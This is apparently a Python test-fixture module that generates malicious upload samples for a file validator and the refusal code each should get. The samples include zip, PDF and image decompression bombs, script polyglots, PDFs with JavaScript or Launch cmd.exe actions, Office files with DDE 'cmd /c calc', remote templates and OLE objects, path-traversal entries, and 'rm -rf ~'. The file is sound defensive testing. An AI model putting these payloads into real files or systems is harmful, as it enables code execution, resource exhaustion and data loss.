"""Files that somebody uploads to do harm, made here: none of them is kept in the project."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.helpers.uploads.files import DOCX, HTML, ODF, PDF, SVG, archive, picture

SCRIPT = b"<script>alert(document.domain)</script>"
CONTENT_TYPES = "[Content_Types].xml"


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*more, width=8, height=8, rows=None):
    """A PNG of black points with more chunks before the picture; ``rows``: what stands there in place of it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = rows or zlib.compress(bytes((1 + 3 * width) * min(height, 100)))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (chunk(b"IHDR", head), *more, chunk(b"IDAT", rows), chunk(b"IEND", b""))
    )


def packed_text(size):
    return zlib.compress(bytes(size))


def png_of_frames(frames):
    """An animation, whose every frame is the whole picture."""
    control = struct.pack(">IIIIIHHBB", 0, 2_000, 2_000, 0, 0, 1, 10, 0, 0)
    rows = zlib.compress(bytes(6_001 * 2_000))
    shown = [
        chunk(b"fcTL", control) + chunk(b"fdAT", struct.pack(">I", n) + rows)
        for n in range(1, frames)
    ]
    return png(
        chunk(b"acTL", struct.pack(">II", frames, 0)), *shown, width=2_000, height=2_000, rows=rows
    )


def jpeg_of_passes(passes):
    """A picture of 40 million points that is drawn over and over again."""
    written = io.BytesIO()
    Image.new("L", (6_300, 6_300)).save(written, "JPEG", progressive=True)
    data = written.getvalue()
    last = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last * passes + data[-2:]


def jpeg_with_exif(exif):
    data = picture()
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 8) + b"Exif\0\0" + exif + data[2:]


def exif_of(*entries):
    """Entries of ``tag, type, count, value``; where a value stands elsewhere, nothing is there."""
    packed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + packed + bytes(4)


def pdf(*objects):
    numbered = [
        b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in enumerate(objects, 1)
    ]
    return b"%PDF-1.7\n" + b"".join(numbered) + b"trailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"


def packed(objects, words=b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"):
    data = zlib.compress(b"9 0 " + objects)
    return b"<<" + words + b" /Length %d>>\nstream\n%s\nendstream" % (len(data), data)


def zipped(parts, packing=zipfile.ZIP_DEFLATED):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", packing, compresslevel=1) as made:
        for name, data in parts:
            made.writestr(name, data)
    return written.getvalue()


def word(*parts):
    return zipped([(CONTENT_TYPES, "<Types/>"), ("word/document.xml", "<document/>"), *parts])


def referring_to(kind, target):
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    reference = f'<Relationship Type="{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{reference}</Relationships>"


def relation(kind, target):
    """To another part of the document."""
    return referring_to(kind, target).replace(' TargetMode="External"', "")


def sheet(*parts):
    return zipped([(CONTENT_TYPES, "<Types/>"), ("xl/workbook.xml", "<workbook/>"), *parts])


OPEN_NAMES = " ".join(
    f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for short, name in (
        ("o", "office"),
        ("d", "drawing"),
        ("t", "text"),
        ("s", "script"),
        ("m", "manifest"),
    )
)


def text(element, part="content.xml"):
    """An OpenDocument text with the element in one of its parts."""
    xml = f'<o:x {OPEN_NAMES} xmlns:l="http://www.w3.org/1999/xlink">{element}</o:x>'
    parts = {"content.xml": "<x/>", part: xml}
    return zipped([("mimetype", f"{ODF}.text"), *parts.items()])


def twice_the_same_part():
    """A list of parts whose first entry stands in it twice."""
    first = DOCX.index(b"PK\x01\x02")
    entry, end = DOCX[first : DOCX.index(b"PK\x01\x02", first + 1)], DOCX.rindex(b"PK\x05\x06")
    count, length = struct.unpack_from("<HI", DOCX, end + 10)
    closing = bytearray(DOCX[end:])
    struct.pack_into("<HHI", closing, 8, count + 1, count + 1, length + len(entry))
    return DOCX[:end] + entry + closing


def over_each_other():
    """Two parts that are the same bytes."""
    data = bytearray(DOCX)
    second = data.rindex(b"PK\x01\x02")
    data[second + 42 : second + 46] = bytes(4)
    return bytes(data)


def locked():
    """As the program says that its parts are: packed with a password."""
    data = bytearray(DOCX)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 1)
    return bytes(data)


def webp_that_says_it_is_huge():
    data = bytearray(picture("WEBP", mode="RGBA", lossless=True))
    at = data.index(b"VP8L") + 9
    data[at : at + 4] = b"\xff\xff\xff\x1f"  # 16,384 points a side
    return bytes(data)


def zip_bomb():
    """1.2 GB in little more than a megabyte."""
    return word(*((f"word/media/{n}.bmp", bytes(100_000_000)) for n in range(12)))


def list_bomb():
    return zipped([(CONTENT_TYPES, bytes(100_000_000)), ("word/document.xml", "x")])


# What is refused as a picture: its bytes and the code of the refusal.
REFUSED_PICTURES = {
    "pixel-bomb-png": (png(width=30_000, height=30_000), "wrong_type"),
    "pixel-bomb-png-below-the-library's-own-limit": (png(width=9_000, height=9_900), "too_large"),
    "gif-bomb": (b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b"\x2c" + bytes(20), "wrong_type"),
    "tiff-bomb": (
        picture("TIFF", size=(9_000, 9_000), mode="1", compression="group4"),
        "wrong_type",
    ),
    "svg-with-script": (SVG, "wrong_type"),
    "html": (HTML, "wrong_type"),
    "html-that-begins-as-gif": (b"GIF89a/*" + SCRIPT, "wrong_type"),
    "gif-that-is-script": (b"GIF89a=1;alert(1)//" + bytes(30), "wrong_type"),
    "gif-of-many-frames": (
        picture("GIF", save_all=True, append_images=[Image.new("RGB", (60, 40))] * 50),
        "wrong_type",
    ),
    "bitmap-that-is-script": (b"BM=1;alert(1)//" + bytes(60), "wrong_type"),
    "pdf": (PDF, "wrong_type"),
    "zip": (DOCX, "wrong_type"),
    "postscript": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n", "wrong_type"),
    "xml-with-entities": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>',
        "wrong_type",
    ),
    "empty": (b"", "wrong_type"),
    "cut-off-jpeg": (picture(size=(600, 400))[:400], "wrong_type"),
    "cut-off-png": (picture("PNG", size=(600, 400))[:60], "wrong_type"),
    "cut-off-webp": (picture("WEBP", size=(600, 400))[:60], "wrong_type"),
    "png-whose-chunk-is-longer-than-the-file": (
        b"\x89PNG\r\n\x1a\n\xff\xff\xff\xffIHDR" + bytes(20),
        "wrong_type",
    ),
}

# What is taken as a picture and made harmless: nothing of what it hid is left.
MADE_HARMLESS = {
    "png-that-unpacks-to-less-than-it-says": png(height=4_000),
    "jpeg-and-html": picture() + HTML,
    "jpeg-with-html-in-its-comment": picture(comment=SCRIPT),
    "jpeg-and-zip": picture() + DOCX,
    "jpeg-and-phar": picture() + b"<?php __HALT_COMPILER(); ?>\r\n" + SCRIPT,
    "jpeg-and-pdf": picture() + PDF,
    "png-and-zip": picture("PNG") + DOCX,
    "webp-and-html": picture("WEBP") + SCRIPT,
    "png-with-script-in-its-text": png(chunk(b"tEXt", b"Title\0" + SCRIPT)),
    "png-with-a-text-bomb": png(chunk(b"zTXt", b"a\0\0" + packed_text(20_000_000))),
    "png-with-an-international-text-bomb": png(
        chunk(b"iTXt", b"a\0\1\0\0\0" + packed_text(20_000_000)),
    ),
    "png-with-a-profile-bomb": png(chunk(b"iCCP", b"a\0\0" + packed_text(20_000_000))),
    "jpeg-with-script-in-its-exif": jpeg_with_exif(exif_of((0x010E, 2, 4, 0)) + SCRIPT),
    "jpeg-with-exif-that-lies-about-its-length": jpeg_with_exif(
        exif_of((0x0112, 3, 0xFFFFFF, 9_999))
    ),
    "jpeg-with-exif-that-goes-in-circles": jpeg_with_exif(
        exif_of((0x8769, 4, 1, 8), (0x0112, 3, 1, 1))
    ),
    "jpeg-with-an-orientation-that-is-none": jpeg_with_exif(exif_of((0x0112, 3, 1, 77))),
    "jpeg-with-a-profile-that-is-none": picture(icc_profile=SCRIPT * 1_000),
}

NAMES = {
    "script": b"<</S /JavaScript /JS (app.alert(1))>>",
    "script-in-other-letters": b"<</S /J#61v#61Script /JS (app.alert(1))>>",
    "script-without-spaces": b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "program": b"<</S /Launch /F (cmd.exe)>>",
    "attachment": b"<</Type /EmbeddedFile>>",
    "tree-of-attachments": b"<</Names <</EmbeddedFiles 2 0 R>>>>",
    "film": b"<</Subtype /RichMedia>>",
    "form-that-sends": b"<</S /SubmitForm /F (https://elsewhere.example/)>>",
    "form-of-its-own-sort": b"<</AcroForm <</XFA 2 0 R>>>>",
    "other-file": b"<</S /GoToR /F (\\\\\\\\elsewhere.example\\\\share)>>",
}

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
WORD_PARTS = "word/_rels/document.xml.rels"
LISTENER = '<s:event-listener s:event-name="dom:load" l:href="%s:a.py$b?language=Python"/>'
# Documents of office programs that start or fetch something under names of their own.
OFFICE_FILES = {
    "word-with-a-program-of-another-name": (
        word(("word/media/x.dat", OLE), (WORD_PARTS, relation("oleObject", "media/x.dat"))),
        "objects",
    ),
    "word-with-a-program-of-another-ending": (word(("word/embeddings/x.ole", OLE)), "objects"),
    "word-with-a-sheet-of-old": (word(("word/embeddings/sheet.xls", OLE)), "objects"),
    "word-with-a-control-elsewhere": (
        word(("word/x/y.xml", "<x/>"), (WORD_PARTS, relation("control", "x/y.xml"))),
        "objects",
    ),
    "word-that-spells-its-template-otherwise": (
        word((WORD_PARTS, referring_to("attachedTemplat&#101;", "https://e.example/t.dotm"))),
        "objects",
    ),
    "word-with-a-picture-from-the-web": (
        word((WORD_PARTS, referring_to("image", "https://e.example/x.png"))),
        "pictures",
    ),
    "word-with-a-picture-of-a-server": (
        word((WORD_PARTS, referring_to("image", "file:///\\\\e.example\\x.png"))),
        "pictures",
    ),
    "word-with-macros-in-another-list": (word(("[content_types].xml", "vbaProject")), "unsafe"),
    "word-of-before-2007": (OLE, "old_or_locked"),
    "sheet-that-asks-a-program": (
        sheet(
            (
                "xl/externalLinks/externalLink1.xml",
                '<x><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>',
            )
        ),
        "takes_in",
    ),
    "sheet-that-fetches-when-it-is-opened": (
        sheet(("xl/connections.xml", '<x><connection refreshOnLoad="1"/></x>')),
        "takes_in",
    ),
    "sheet-whose-links-are-no-xml": (sheet(("xl/connections.xml", "<x>")), "wrong_type"),
    "text-that-starts-a-script": (text(LISTENER % "vnd.sun.star.script"), "macros"),
    "text-that-starts-a-script-in-other-letters": (
        text(LISTENER % "vnd.sun.star.scrip&#116;"),
        "macros",
    ),
    "text-that-starts-a-script-in-its-styles": (text(LISTENER % "macro", "styles.xml"), "macros"),
    "text-with-an-object-of-another-program": (
        text('<d:object-ole l:href="./Object 1"/>'),
        "objects",
    ),
    "text-that-declares-such-an-object": (
        text(
            '<m:file-entry m:media-type="application/vnd.sun.star.oleobject" m:full-path="Object 1"/>',
            "META-INF/manifest.xml",
        ),
        "objects",
    ),
    "text-that-fetches-a-part": (
        text('<t:section-source l:href="https://e.example/x.odt"/>'),
        "takes_in",
    ),
    "text-with-a-frame": (text('<d:floating-frame l:href="https://e.example/"/>'), "takes_in"),
    "text-with-a-picture-from-the-web": (
        text('<d:image l:href="https://e.example/x.png"/>'),
        "pictures",
    ),
    "text-that-asks-a-program": (text('<o:dde-source o:dde-application="cmd"/>'), "takes_in"),
    "text-with-an-entity": (
        zipped(
            [
                ("mimetype", f"{ODF}.text"),
                ("content.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
            ]
        ),
        "wrong_type",
    ),
}

# What is refused as a document: its bytes and the code of the refusal.
REFUSED_DOCUMENTS = {
    **{
        f"pdf-with-{name}": (pdf(b"<</OpenAction %s>>" % each), "does_more")
        for name, each in NAMES.items()
    },
    "pdf-with-a-packed-script": (pdf(packed(NAMES["script"])), "does_more"),
    "pdf-with-a-packed-script-in-other-letters": (
        pdf(packed(NAMES["script-in-other-letters"])),
        "does_more",
    ),
    "pdf-with-a-packed-script-that-is-called-a-picture": (
        pdf(packed(NAMES["script"], b"/Subtype /Image /Filter /FlateDecode")),
        "does_more",
    ),
    "pdf-with-a-script-behind-its-end": (PDF + b"\n" + pdf(NAMES["script"]), "does_more"),
    "pdf-with-packed-objects-that-are-damaged": (
        pdf(b"<</Type /ObjStm /Filter /FlateDecode>>\nstream\nx\x9c\0\0\nendstream"),
        "unreadable",
    ),
    "pdf-with-objects-packed-in-another-way": (
        pdf(b"<</Type /ObjStm /Filter /ASCIIHexDecode>>\nstream\n78>\nendstream"),
        "unreadable",
    ),
    "pdf-with-objects-packed-in-another-way-in-other-letters": (
        pdf(b"<</Type /O#62jStm /Filter /LZWDecode>>\nstream\n\x80\nendstream"),
        "unreadable",
    ),
    "pdf-with-a-password": (pdf(b"<<>>") + b"trailer <</Encrypt 5 0 R>>\n%%EOF", "protected"),
    "pdf-that-is-cut-off": (pdf(b"<<>>")[:40], "unreadable"),
    "pdf-and-zip": (PDF + DOCX, "unreadable"),
    "pdf-and-program": (PDF + b"\nMZ" + bytes(5_000), "unreadable"),
    "html-and-pdf": (HTML + PDF, "wrong_type"),
    "html-and-word": (HTML + DOCX, "wrong_type"),
    "gif-and-word": (b"GIF89a" + DOCX, "wrong_type"),
    "program": (b"MZ\x90\0" + bytes(60), "wrong_type"),
    "shell-script": (b"#!/bin/sh\nrm -rf ~\n", "wrong_type"),
    "shortcut": (b"L\0\0\0\x01\x14\x02\0" + bytes(60), "wrong_type"),
    "svg-with-script": (SVG, "wrong_type"),
    "java-archive": (archive("META-INF/MANIFEST.MF", "A.class"), "wrong_type"),
    "zip-of-zips": (zipped([(f"{n}.zip", DOCX) for n in range(9)]), "wrong_type"),
    "empty": (b"", "wrong_type"),
    "word-with-macros": (word(("word/vbaProject.bin", "x")), "macros"),
    "text-with-macros": (archive("content.xml", "Basic/A/B.xml", mimetype=f"{ODF}.text"), "macros"),
    "word-with-a-control": (word(("word/activeX/activeX1.bin", "x")), "objects"),
    "word-with-a-packed-program": (word(("word/embeddings/oleObject1.bin", "x")), "objects"),
    "word-that-fetches-its-template": (
        word(
            (
                "word/_rels/settings.xml.rels",
                referring_to("attachedTemplate", "https://e.example/t.dotm"),
            )
        ),
        "takes_in",
    ),
    "word-that-fetches-an-object": (
        word(
            ("word/_rels/document.xml.rels", referring_to("oleObject", "mhtml:https://e.example/"))
        ),
        "takes_in",
    ),
    "word-that-asks-a-server-for-its-template": (
        word(
            (
                "word/_rels/settings.xml.rels",
                referring_to("attachedTemplate", "file:///\\\\e.example\\t.dotm"),
            )
        ),
        "takes_in",
    ),
    "word-that-hides-what-it-fetches": (
        word(
            (
                "word/_rels/settings.xml.rels",
                referring_to("attachedTemplate", "&#104;ttps://e.example/"),
            )
        ),
        "takes_in",
    ),
    **OFFICE_FILES,
    "word-that-climbs-out": (word(("../../etc/cron.d/x", "x")), "unsafe"),
    "word-that-climbs-out-on-windows": (word(("..\\..\\x.exe", "x")), "unsafe"),
    "word-with-an-absolute-part": (word(("/etc/passwd", "x")), "unsafe"),
    "word-with-a-part-on-a-drive": (word(("C:x.exe", "x")), "unsafe"),
    "word-with-twice-the-same-part": (twice_the_same_part(), "unsafe"),
    "word-whose-parts-lie-over-each-other": (over_each_other(), "unsafe"),
    "word-that-is-locked": (locked(), "unsafe"),
    "word-of-too-many-parts": (word(*((f"word/{n}", "") for n in range(10_000))), "unsafe"),
}

# What looks like it and is an honest document.
HONEST_DOCUMENTS = {
    "pdf-with-links-to-pages-of-such-names": pdf(
        *(
            b"<</A <</S /URI /URI (https://www.example.org/wiki/%s)>>>>" % name
            for name in (b"JavaScript", b"Launch/x", b"Encrypt")
        )
    ),
    "pdf-with-packed-links-to-pages-of-such-names": pdf(
        packed(b"<</S/URI/URI(https://www.example.org/JavaScript/Guide)>>")
    ),
    "sheet-of-7000-links": sheet(
        (
            "xl/worksheets/_rels/sheet1.xml.rels",
            referring_to("hyperlink", "https://www.example.org/en/web/cybercrime/") * 7_000,
        )
    ),
    "sheet-that-asks-before-it-fetches": sheet(
        ("xl/connections.xml", '<x><connection refreshOnLoad="0"/></x>')
    ),
    "word-with-a-picture-inside": word((WORD_PARTS, relation("image", "media/image1.png"))),
    "text-with-pictures-and-links": text(
        '<d:image l:href="Pictures/1.png"/><d:object l:href="./Object 1"/><t:a l:href="https://www.example.org/">x</t:a>'
    ),
}


# What would take for ever or all memory, if it were let: how it is made, what examines it, and what comes of it.
BOMBS = {
    "jpeg-of-thousands-of-passes": (lambda: jpeg_of_passes(9_000), "image", "too_complex"),
    "jpeg-of-fifty-passes": (lambda: jpeg_of_passes(40), "image", "taken"),
    "png-of-thousands-of-profiles": (
        lambda: png(*[chunk(b"iCCP", b"a\0\0" + packed_text(1_000_000))] * 9_000),
        "image",
        "taken",
    ),
    "png-of-a-hundred-frames": (lambda: png_of_frames(100), "image", "taken"),
    "png-of-40-million-points": (
        lambda: picture("PNG", size=(6_300, 6_300), mode="RGBA"),
        "image",
        "taken",
    ),
    "webp-of-40-million-points": (
        lambda: picture("WEBP", size=(16_000, 2_400), method=0),
        "image",
        "taken",
    ),
    "webp-that-says-it-is-huge": (webp_that_says_it_is_huge, "image", "wrong_type"),
    "zip-of-1200-megabytes": (zip_bomb, "document", "unsafe"),
    "zip-of-a-million-parts": (lambda: DOCX + b"PK\x01\x02" * 1_000_000, "document", "unsafe"),
    "list-of-parts-of-100-megabytes": (list_bomb, "document", "wrong_type"),
    "text-of-very-many-elements-in-each-other": (
        lambda: text("<x y=''>" * 3_000_000),
        "document",
        "wrong_type",
    ),
    "pdf-that-unpacks-to-5000-megabytes": (
        lambda: pdf(*[packed(bytes(100_000_000))] * 50),
        "document",
        "unreadable",
    ),
    "pdf-of-very-many-streams": (
        lambda: PDF + b"stream\n" * 7_000_000 + PDF,
        "document",
        "unreadable",
    ),
    "pdf-of-nothing-but-names": (lambda: PDF + b"/" * 49_000_000 + PDF, "document", "taken"),
}


def cases(files):
    """For ``parametrize``: bytes aren't written into the names of tests."""
    return {"argvalues": list(files.values()), "ids": list(files)}
